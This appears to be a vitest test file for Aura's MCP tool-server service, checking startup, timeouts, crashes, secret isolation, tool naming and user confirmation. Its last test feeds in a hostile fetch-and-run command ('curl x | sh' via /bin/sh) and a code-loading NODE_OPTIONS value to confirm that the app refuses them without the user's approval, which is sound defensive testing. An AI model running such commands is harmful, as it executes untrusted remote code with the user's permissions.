import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { AuraError, type McpServer } from '../../../shared/api'
import { setLanguage, shapeIn } from '../../../shared/i18n'
import { NetworkLog } from '../network'
import { silentLogger, systemClock } from '../ports'
import { startHttpMcpServer, writeTestMcpServer } from '../testing/mcpServers'
import { keyFileCipher, SecretStore } from '../vault'
import { McpService, type McpServiceOptions } from './mcpService'
import { RESULT_CAP } from './results'
import { McpStore } from './store'

const bin = (name: string) => resolve(import.meta.dirname, '../../../../node_modules/.bin', name)
const testServer = writeTestMcpServer()
const never = new AbortController().signal

let dataDir: string
let services: McpService[] = []
let changes: McpServer[][] = []

function open(options: Partial<McpServiceOptions> = {}): McpService {
  const secrets = new SecretStore(dataDir, keyFileCipher(join(dataDir, 'secret.key')))
  const service = new McpService({
    store: new McpStore(join(dataDir, 'mcp.json'), secrets),
    version: '0.0.0-test',
    logger: silentLogger,
    memoryFile: join(dataDir, 'memory.jsonl'),
    onChange: (servers) => changes.push(servers),
    startTimeoutMs: 20_000,
    callTimeoutMs: 20_000,
    ...options,
  })
  services.push(service)
  return service
}

beforeEach(() => {
  dataDir = mkdtempSync(join(tmpdir(), 'aura-mcp-'))
  changes = []
})
afterEach(async () => {
  await Promise.all(services.map((service) => service.close()))
  services = []
  rmSync(dataDir, { recursive: true, force: true })
})

describe('published servers over stdio', () => {
  it('runs @modelcontextprotocol/server-everything: its tools, a text result, an image named', async () => {
    const mcp = open()
    await mcp.add({ name: 'everything', command: bin('mcp-server-everything'), args: ['stdio'] })
    const tools = await mcp.tools()
    expect(tools.map((tool) => tool.name)).toEqual(expect.arrayContaining(['everything__echo', 'everything__get-tiny-image', 'everything__get-sum']))
    const echo = tools.find((tool) => tool.name === 'everything__echo')!
    expect(echo).toMatchObject({ server: 'everything', tool: 'echo', permission: 'ask', inputSchema: { type: 'object' } })
    expect(echo.description).toMatch(/Echo/)

    const said = await mcp.call('everything__echo', { message: 'hello' }, never)
    expect(said).toMatchObject({ ok: true, text: 'Echo: hello', truncated: false })
    const image = await mcp.call('everything__get-tiny-image', {}, never)
    expect(image.text).toMatch(/\[image: image\/png, [\d.]+ (B|bytes|KiB)\]/)
    // The server checks its input: a wrong argument is the tool's error, in its words.
    const wrong = await mcp.call('everything__get-sum', { a: 'one' }, never)
    expect(wrong.ok).toBe(false)
    expect(mcp.servers()[0]).toMatchObject({ state: 'running', problem: null })
  })

  it('runs @modelcontextprotocol/server-filesystem on one folder, and it refuses any other', async () => {
    const folder = realpathSync(mkdtempSync(join(tmpdir(), 'aura-mcp-files-')))
    writeFileSync(join(folder, 'notes.txt'), 'Buy milk')
    try {
      const mcp = open()
      await mcp.add({ name: 'files', command: bin('mcp-server-filesystem'), args: [folder] })
      const read = await mcp.call('files__read_text_file', { path: join(folder, 'notes.txt') }, never)
      expect(read).toMatchObject({ ok: false }) // not started yet: tools() or a start comes first
      await mcp.tools()
      expect(await mcp.call('files__read_text_file', { path: join(folder, 'notes.txt') }, never)).toMatchObject({ ok: true, text: 'Buy milk' })
      const listing = await mcp.call('files__list_directory', { path: folder }, never)
      expect(listing.text).toMatch(/\[FILE\] notes\.txt/)
      const outside = await mcp.call('files__read_text_file', { path: '/etc/hostname' }, never)
      expect(outside.ok).toBe(false)
      expect(outside.text).toMatch(/outside allowed directories|Access denied/i)
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  })
})

describe('a server at an address (Streamable HTTP)', () => {
  it('sends its headers; without the right one the server refuses and Aura says to check them', async () => {
    const http = await startHttpMcpServer('s3cret-token')
    try {
      // Every request to it is in the privacy log (Settings → Privacy), as any request Aura sends.
      const log = new NetworkLog({ file: join(dataDir, 'connections.jsonl'), clock: systemClock, logger: silentLogger })
      const mcp = open({ fetch: log.fetcher('mcp_tool') })
      await mcp.add({ name: 'calc', url: http.url, headers: { Authorization: 'Bearer wrong' } })
      const refused = await mcp.start('calc')
      expect(refused.state).toBe('failed')
      expect(refused.problem).toMatch(/refused Aura \(401\).*headers/)

      const fixed = await mcp.update({ name: 'calc', headers: { Authorization: 'Bearer s3cret-token' } })
      expect(fixed.headerNames).toEqual(['Authorization'])
      const running = await mcp.start('calc', { restart: true })
      expect(running).toMatchObject({ state: 'running', transport: 'http', tools: [expect.objectContaining({ name: 'add', callName: 'calc__add' })] })
      expect(await mcp.call('calc__add', { a: 2, b: 3 }, never)).toMatchObject({ ok: true, text: '5' })
      const logged = log.list().filter((c) => c.purpose === 'mcp_tool')
      expect(logged.length).toBeGreaterThanOrEqual(4)
      expect(logged.every((c) => c.host === new URL(http.url).host)).toBe(true)
      expect(logged.at(-1)!.status).toBe(401) // the oldest: the refused start
    } finally {
      await http.close()
    }
  })

  it('an edit (Settings → Tools → Edit) restarts it with the new values, its tools’ on / off kept', async () => {
    const http = await startHttpMcpServer('s3cret-token')
    try {
      const mcp = open()
      await mcp.add({ name: 'calc', url: http.url, headers: { Authorization: 'Bearer s3cret-token', 'X-Team': 'blue' } })
      expect((await mcp.start('calc')).state).toBe('running')
      mcp.setTool({ server: 'calc', tool: 'add', enabled: false })

      // A new token replaces the old one; the other header is kept unseen.
      const broken = await mcp.update({ name: 'calc', headers: { Authorization: 'Bearer wrong' } })
      expect(broken).toMatchObject({ state: 'failed', headerNames: ['Authorization', 'X-Team'], tools: [] })
      expect(broken.problem).toMatch(/refused Aura \(401\)/)

      // Saving the form again after fixing what was wrong outside Aura tries again (nothing differs).
      changes = []
      const retried = await mcp.update({ name: 'calc', url: http.url })
      expect(retried.state).toBe('failed')
      expect(changes.some((servers) => servers[0]!.state === 'starting')).toBe(true)

      const fixed = await mcp.update({ name: 'calc', url: http.url, headers: { Authorization: 'Bearer s3cret-token', 'X-Team': null } })
      expect(fixed).toMatchObject({ state: 'running', problem: null, headerNames: ['Authorization'], tools: [expect.objectContaining({ name: 'add', enabled: false })] })

      // A typo in the address, then the right one.
      const unreachable = await mcp.update({ name: 'calc', url: 'http://127.0.0.1:9/mcp' })
      expect(unreachable).toMatchObject({ state: 'failed', url: 'http://127.0.0.1:9/mcp' })
      expect(unreachable.problem).toMatch(/127\.0\.0\.1:9/)
      expect(await mcp.update({ name: 'calc', url: http.url })).toMatchObject({ state: 'running', tools: [expect.objectContaining({ name: 'add', enabled: false })] })
    } finally {
      await http.close()
    }
  })

  it('an edit of a server that is off, or not started yet, is kept for its next start', async () => {
    const http = await startHttpMcpServer('s3cret-token')
    try {
      const mcp = open()
      await mcp.add({ name: 'calc', url: http.url, headers: { Authorization: 'Bearer wrong' } })
      expect(await mcp.update({ name: 'calc', headers: { Authorization: 'Bearer s3cret-token' } })).toMatchObject({ state: 'stopped' })
      await mcp.update({ name: 'calc', enabled: false })
      expect(await mcp.update({ name: 'calc', headers: { Authorization: 'Bearer wrong' } })).toMatchObject({ enabled: false, state: 'stopped' })
      await mcp.update({ name: 'calc', enabled: true, headers: { Authorization: 'Bearer s3cret-token' } })
      expect((await mcp.start('calc')).state).toBe('running')
    } finally {
      await http.close()
    }
  })
})

describe('servers that misbehave', () => {
  it('a server that crashes as it starts is failed, with what it said', async () => {
    const mcp = open()
    await mcp.add({ name: 'broken', command: testServer.command, args: testServer.args('crash-at-start') })
    const server = await mcp.start('broken')
    expect(server.state).toBe('failed')
    expect(server.problem).toBe('The server “broken” stopped as it started. It said: Error: the config file is missing')
    expect(await mcp.tools()).toEqual([])
  })

  it('a server that never answers fails at the start deadline, and a reply waits for it only a little', async () => {
    const mcp = open({ startTimeoutMs: 6_000, toolsWaitMs: 3_000 })
    await mcp.add({ name: 'stuck', command: testServer.command, args: testServer.args('hang') })
    await mcp.add({ name: 'fine', command: testServer.command, args: testServer.args() })
    const started = Date.now()
    const tools = await mcp.tools()
    expect(Date.now() - started).toBeLessThan(4_500)
    expect(tools.map((tool) => tool.server)).not.toContain('stuck')
    expect(tools.map((tool) => tool.name)).toContain('fine__echo')
    expect(mcp.servers().find((s) => s.name === 'stuck')?.state).toBe('starting')
    // Its start goes on in the background, up to its deadline.
    expect(await mcp.start('stuck')).toMatchObject({ state: 'failed', problem: 'The server “stuck” did not start within 6 s.' })
    expect(Date.now() - started).toBeLessThan(9_000)
  })

  it('a tool that never answers ends at the call deadline, or at once when stopped', async () => {
    const mcp = open({ callTimeoutMs: 1_000 })
    await mcp.add({ name: 'slow', command: testServer.command, args: testServer.args() })
    await mcp.tools()
    const started = Date.now()
    const late = await mcp.call('slow__sleep', {}, never)
    expect(late).toMatchObject({ ok: false, text: 'The tool “sleep” of “slow” did not answer within 1 s, so Aura stopped waiting for it.' })
    expect(Date.now() - started).toBeLessThan(3_000)

    const stop = new AbortController()
    const stopped = mcp.call('slow__sleep', {}, stop.signal)
    setTimeout(() => stop.abort(), 100)
    expect(await stopped).toMatchObject({ ok: false, text: 'The tool “sleep” was stopped.' })
    // The server still runs: a slow tool is not a broken server.
    expect(await mcp.call('slow__echo', { text: 'still here' }, never)).toMatchObject({ ok: true, text: 'still here' })
  })

  it('a server that crashes during a call: the call ends with the reason, the server is failed, its tools gone', async () => {
    const mcp = open({ retryAfterMs: 60_000 })
    await mcp.add({ name: 'fragile', command: testServer.command, args: testServer.args() })
    await mcp.tools()
    const outcome = await mcp.call('fragile__crash', {}, never)
    expect(outcome.ok).toBe(false)
    expect(outcome.text).toBe('The server “fragile” stopped unexpectedly. It said: boom: the disk is on fire')
    expect(mcp.servers()[0]).toMatchObject({ state: 'failed', tools: [] })
    expect(changes.at(-1)?.[0]?.state).toBe('failed')
    // Not tried again at once (a crashing server would slow every reply); Restart does.
    expect(await mcp.tools()).toEqual([])
    expect((await mcp.start('fragile', { restart: true })).state).toBe('running')
  })

  it(`cuts a huge result to ${RESULT_CAP} characters and says so`, async () => {
    const mcp = open()
    await mcp.add({ name: 'big', command: testServer.command, args: testServer.args() })
    await mcp.tools()
    const outcome = await mcp.call('big__huge', {}, never)
    expect(outcome.ok).toBe(true)
    expect(outcome.truncated).toBe(true)
    expect(outcome.text.length).toBeLessThan(RESULT_CAP + 200)
    expect(outcome.text).toMatch(/\[… cut: the result was 200,0\d\d characters; Aura keeps the first 20,000\]$/)
  })
})

describe('what a server may see', () => {
  it('starts with a minimal environment: never Aura’s keys or the rest of its process’s variables', async () => {
    const env: Record<string, string | undefined> = { ...process.env, OPENAI_API_KEY: 'sk-aura-secret', AURA_HF_TOKEN: 'hf_secret', SOMETHING_ELSE: 'private' }
    const mcp = open({ env })
    await mcp.add({ name: 'probe', command: testServer.command, args: testServer.args(), env: { GITHUB_TOKEN: 'ghp_for_this_server' } })
    await mcp.add({ name: 'everything', command: bin('mcp-server-everything'), args: ['stdio'] })
    await mcp.tools()
    for (const call of ['probe__env', 'everything__get-env']) {
      const seen = JSON.parse((await mcp.call(call, {}, never)).text) as Record<string, string>
      expect(JSON.stringify(seen)).not.toMatch(/sk-aura-secret|hf_secret|private/)
      expect(seen.PATH).toContain(env.PATH!.split(':')[0])
      expect(Object.keys(seen).filter((name) => !['PATH', 'HOME', 'USER', 'LOGNAME', 'SHELL', 'TERM', 'LANG', 'LC_ALL', 'TMPDIR', 'GITHUB_TOKEN'].includes(name))).toEqual([])
    }
    expect(JSON.parse((await mcp.call('probe__env', {}, never)).text).GITHUB_TOKEN).toBe('ghp_for_this_server')
  })

  it('a missing command says what to install', async () => {
    const mcp = open({ env: { PATH: join(dataDir, 'no-programs-here'), HOME: dataDir } })
    await mcp.add({ name: 'memory', command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] })
    await mcp.add({ name: 'time', command: 'uvx', args: ['mcp-server-time'] })
    await mcp.add({ name: 'typo', command: 'nodee', args: [] })
    await mcp.tools()
    const problems = Object.fromEntries(mcp.servers().map((s) => [s.name, s.problem]))
    expect(problems.memory).toMatch(/^This server needs Node\.js, and Aura could not find it on this computer \(its “npx” command\)\. Install Node\.js/)
    expect(problems.time).toMatch(/^This server needs Python’s uv/)
    expect(problems.typo).toMatch(/^Aura could not find the program “nodee”/)
    expect(mcp.gallery().every((entry) => !entry.available && entry.problem)).toBe(true)
  })

  it('says a missing command and its own errors in the reader’s language', async () => {
    setLanguage('es')
    try {
      const mcp = open({ env: { PATH: join(dataDir, 'no-programs-here'), HOME: dataDir } })
      await mcp.add({ name: 'memory', command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] })
      await mcp.tools()
      expect(mcp.servers()[0]?.problem).toBe(
        'Este servidor necesita Node.js y Aura no lo encontró en este ordenador (su comando “npx”). Instala Node.js (la versión LTS de nodejs.org) y reinicia el servidor.',
      )
      const error = await mcp.add({ name: 'memory', command: 'npx', args: [] }).catch((e: unknown) => e)
      expect(error instanceof AuraError && shapeIn(error).message).toBe('Ya hay un servidor de herramientas llamado “memory”. Elige otro nombre o quita primero ese.')
    } finally {
      setLanguage('en')
    }
  })

  it('stops every server it started when closed', async () => {
    const mcp = open()
    await mcp.add({ name: 'a', command: testServer.command, args: testServer.args() })
    await mcp.tools()
    const pid = Number((await mcp.call('a__pid', {}, never)).text)
    expect(() => process.kill(pid, 0)).not.toThrow()
    await mcp.close()
    expect(() => process.kill(pid, 0)).toThrow(/ESRCH/)
  })

  it('stops a server still starting when closed, at once rather than at its start deadline', async () => {
    const mcp = open({ startTimeoutMs: 60_000 })
    await mcp.add({ name: 'stuck', command: testServer.command, args: testServer.args('hang') })
    const starting = mcp.start('stuck')
    await expect.poll(() => mcp.servers()[0]!.state).toBe('starting')
    const closing = Date.now()
    await mcp.close()
    await starting
    expect(Date.now() - closing).toBeLessThan(5_000)
  })
})

describe('kept in the data folder', () => {
  it('keeps servers and tool choices in mcp.json, their env and header values sealed', async () => {
    const first = open()
    await first.add({ name: 'probe', command: testServer.command, args: testServer.args(), env: { API_TOKEN: 'tok-plain-123' } })
    await first.add({ name: 'remote', url: 'http://127.0.0.1:9/mcp', headers: { Authorization: 'Bearer hdr-plain-456' } })
    await first.start('probe')
    first.setTool({ server: 'probe', tool: 'crash', enabled: false })
    await first.setPermission('probe__echo', 'always')
    for (const file of ['mcp.json', 'secrets.json']) expect(readFileSync(join(dataDir, file), 'utf8')).not.toMatch(/tok-plain-123|hdr-plain-456/)

    const again = open()
    expect(again.servers().map((s) => [s.name, s.transport, s.envNames, s.headerNames, s.state])).toEqual([
      ['probe', 'stdio', ['API_TOKEN'], [], 'stopped'],
      ['remote', 'http', [], ['Authorization'], 'stopped'],
    ])
    await again.start('probe')
    const tools = await again.tools()
    expect(tools.map((t) => t.name)).not.toContain('probe__crash')
    expect(tools.find((t) => t.name === 'probe__echo')?.permission).toBe('always')
    expect(await again.call('probe__crash', {}, never)).toMatchObject({ ok: false, text: expect.stringMatching(/no tool named/) })

    await again.remove('remote')
    expect(again.servers().map((s) => s.name)).toEqual(['probe'])
    await expect(again.add({ name: 'PROBE', command: 'x' })).rejects.toThrow(/already a tools server named “PROBE”/)
  })

  it('gives each tool a name a model can call: sanitised, at most 64 characters, never twice', async () => {
    const mcp = open()
    await mcp.add({ name: 'my files', command: testServer.command, args: testServer.args('crash-at-start') })
    await mcp.add({ name: 'my_files', command: testServer.command, args: testServer.args() })
    await mcp.add({ name: 'a server with a long name, longer than you would type', command: testServer.command, args: testServer.args() })
    // The first "my files" does not run: the second still never takes its names (a later start would move them).
    expect((await mcp.tools()).map((tool) => tool.name)).toContain('my_files_2__echo')
    await mcp.update({ name: 'my files', args: testServer.args() })
    await mcp.start('my files')
    const names = (await mcp.tools()).map((tool) => tool.name)
    expect(names).toContain('my_files__echo')
    expect(names).toContain('my_files_2__echo')
    expect(names).toContain('a_server_with_a_long_name_longer_than_yo__echo')
    for (const name of names) expect(name).toMatch(/^[A-Za-z0-9_-]{1,64}$/)
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length)
  })

  it('adds a gallery server: the files server on a real folder only; memory keeps its notebook in the data folder', async () => {
    const mcp = open()
    await expect(mcp.addFromGallery({ id: 'files', folder: join(dataDir, 'nowhere') })).rejects.toThrow(/is not a folder/)
    const files = await mcp.addFromGallery({ id: 'files', folder: dataDir })
    expect(files).toMatchObject({ name: 'files', command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', dataDir], galleryId: 'files' })
    const memory = await mcp.addFromGallery({ id: 'memory' })
    expect(memory.envNames).toEqual(['MEMORY_FILE_PATH'])
    expect(mcp.gallery().map((entry) => [entry.id, entry.needs])).toEqual([['files', 'node'], ['memory', 'node'], ['fetch', 'python'], ['git', 'python'], ['time', 'python']])
  })
})

describe('what the page alone cannot do (the desktop app)', () => {
  it('a command from the page runs only once the user allowed it in the system’s question box', async () => {
    const asked: string[] = []
    let answer = false
    const mcp = open({ confirmer: { confirm: async ({ detail }) => (asked.push(detail), answer) } })
    await expect(mcp.add({ name: 'evil', command: '/bin/sh', args: ['-c', 'curl x | sh'] })).rejects.toThrow('You did not allow “/bin/sh -c "curl x | sh"” to run, so nothing was changed.')
    expect(mcp.servers()).toEqual([])
    answer = true
    await mcp.add({ name: 'probe', command: testServer.command, args: testServer.args() })
    expect(asked[1]).toMatch(/server\.cjs tools\n\nIt runs on this computer with your permissions/)
    // New variables can load any code (NODE_OPTIONS): asked again; a refusal changes nothing.
    answer = false
    await expect(mcp.update({ name: 'probe', env: { NODE_OPTIONS: '--require /tmp/x.js' } })).rejects.toThrow(/did not allow/)
    expect(asked[2]).toMatch(/With: NODE_OPTIONS/)
    expect(mcp.servers()[0]!.envNames).toEqual([])
    // A tool run straight from the page (no model, no chat to show it) is asked too.
    await expect(mcp.callTool('probe', 'echo', { text: 'hi' })).rejects.toThrow('You did not allow the tool “echo” to run.')
    expect(asked[3]).toMatch(/"text": "hi"/)
    answer = true
    expect(await mcp.callTool('probe', 'echo', { text: 'hi' })).toMatchObject({ ok: true, text: 'hi' })
    // Turning it off and on, or a tool's choices, need no question.
    await mcp.update({ name: 'probe', enabled: false })
    expect(asked).toHaveLength(5)
    // Nor does saving the Edit form with the same program and arguments, a variable removed; a changed argument is asked.
    await mcp.update({ name: 'probe', command: testServer.command, args: testServer.args(), env: { NODE_OPTIONS: null } })
    expect(asked).toHaveLength(5)
    await mcp.update({ name: 'probe', command: testServer.command, args: testServer.args('hang') })
    expect(asked[5]).toMatch(/server\.cjs hang\n/)
  })

  it('the files server gets the folder the user picked, never one the page names', async () => {
    const picked = mkdtempSync(join(tmpdir(), 'aura-mcp-picked-'))
    try {
      const titles: (string | undefined)[] = []
      const mcp = open({ folderPicker: { pickFolder: async (title) => (titles.push(title), picked) } })
      const files = await mcp.addFromGallery({ id: 'files', folder: '/etc' })
      expect(files.args.at(-1)).toBe(picked)
      expect(titles).toEqual(['Choose the folder the files server may use'])
      const cancelled = open({ folderPicker: { pickFolder: async () => null } })
      await expect(cancelled.addFromGallery({ id: 'files', name: 'files2' })).rejects.toThrow('No folder was chosen, so the files server was not added.')
    } finally {
      rmSync(picked, { recursive: true, force: true })
    }
  })
})
